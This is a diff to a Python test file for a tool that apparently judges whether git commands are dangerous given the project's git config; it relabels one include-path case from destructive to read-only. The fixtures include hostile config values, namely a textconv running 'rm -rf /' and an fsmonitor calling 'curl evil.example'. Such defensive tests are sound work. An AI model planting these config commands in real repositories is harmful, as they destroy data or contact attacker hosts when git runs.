@@ -261,7 +261,7 @@ def test_git_aliases_stored_in_the_project_s_config_are_judged_when_used(tmp_pat
         ("[diff \"x\"]\n\ttextconv = sh -c 'rm -rf /'\n", "git diff", "destructive"),
         ('[filter "lfs"]\n\tclean = git-lfs clean -- %f\n', "git status", "ordinary"),
         ("[core] fsmonitor = curl evil.example\n", "git log -1", "ordinary"),
-        ("[include]\n\tpath = ../elsewhere\n", "git status", "destructive"),
+        ("[include]\n\tpath = ../elsewhere\n", "git status", "read-only"),  # missing: git skips it too
         ("[core]\n\tfsmonitor = true\n\tpager = less\n[pager]\n\tlog = less\n", "git log", "read-only"),
         ("[core]\n\tbare = false\n", "git status", "read-only"),
     ],
